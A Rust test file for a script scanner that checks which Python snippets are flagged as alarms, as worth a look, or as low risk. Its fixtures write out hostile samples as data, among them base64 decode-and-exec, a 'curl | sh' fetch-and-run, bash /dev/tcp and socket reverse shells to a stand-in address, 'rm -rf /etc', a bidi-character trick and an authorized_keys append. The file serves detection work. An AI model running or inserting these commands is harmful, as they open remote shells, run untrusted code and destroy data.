//! What honest scripts do not do, and what looks like it and is not.

use crate::report;
use vigie_inspect::Verdict;

fn verdict(text: &str) -> (Verdict, Vec<&'static str>) {
    let report = report(text);
    (report.verdict, report.findings.iter().map(|finding| finding.rule).collect())
}

#[test]
fn alarms_are_raised() {
    for (script, rule) in [
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "decode-and-run"),
        ("import base64 as b\npayload = b.b64decode('cHJpbnQoMSk=')\nexec(payload)\n", "decode-and-run"),
        ("from zlib import decompress as d\neval(compile(d(x), '', 'exec'))\n", "decode-and-run"),
        ("import requests\nexec(requests.get('http://example.org/x').text)\n", "fetch-and-run"),
        ("import urllib.request\nexec(urllib.request.urlopen(u).read())\n", "fetch-and-run"),
        ("import os\nos.system('curl http://example.org/x | sh')\n", "fetch-and-run"),
        ("import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n", "fetch-and-run"),
        (
            "import socket,os\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\n",
            "reverse-shell",
        ),
        ("import subprocess\nsubprocess.call('rm -rf /etc', shell=True)\n", "remove-tree"),
        ("access = 'user\u{202E} \u{2066}# admin'\n", "bidi"),
    ] {
        let (verdict, rules) = verdict(script);
        assert!(verdict == Verdict::Alarm && rules.contains(&rule), "{script}: {verdict:?} {rules:?}");
    }
}

#[test]
fn what_is_worth_a_look_is_no_alarm() {
    for (script, rule) in [
        ("import os, sys\nos.system('ls ' + sys.argv[1])\n", "shell-unknown"),
        ("import pickle\npickle.loads(data)\n", "pickle"),
        ("import yaml\nyaml.load(text)\n", "yaml"),
        ("import requests\nrequests.get(url, verify=False)\n", "unverified-tls"),
        ("open('/root/.ssh/authorized_keys', 'a').write(key)\n", "starter"),
        ("import subprocess\nsubprocess.run(['sudo', 'reboot'])\n", "sudo"),
        ("eval(input())\n", "eval"),
    ] {
        let (verdict, rules) = verdict(script);
        assert!(verdict == Verdict::Look && rules.contains(&rule), "{script}: {verdict:?} {rules:?}");
    }
}

#[test]
fn ordinary_work_is_low() {
    for script in [
        "import subprocess\nsubprocess.run(['ls', '-l'])\n",
        "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)\nyaml.safe_load(text)\n",
        "import re\nre.compile('x')\n",
        "# eval(base64.b64decode(x)) is bad\nprint('os.system(\"rm -rf /\")')\n",
        "open('/tmp/x', 'w').write('x')\n",
    ] {
        assert_eq!(verdict(script).0, Verdict::Low, "{script}: {:?}", verdict(script));
    }
}

#[test]
fn names_constants_and_ports_are_followed() {
    let report = report(
        "import socket as s\nHOST = 'example.' + 'org'\nPORT = 80\nl = s.socket()\nl.bind(('', 80))\n\
         c = s.create_connection(('192.0.2.7', 5000))\n",
    );
    let texts: Vec<&str> = report.findings.iter().map(|finding| finding.text.as_str()).collect();
    assert_eq!(texts, ["listens on :80", "connects to 192.0.2.7:5000"]);
    assert_eq!(report.needs, ["root or CAP_NET_BIND_SERVICE, for port 80"]);
}
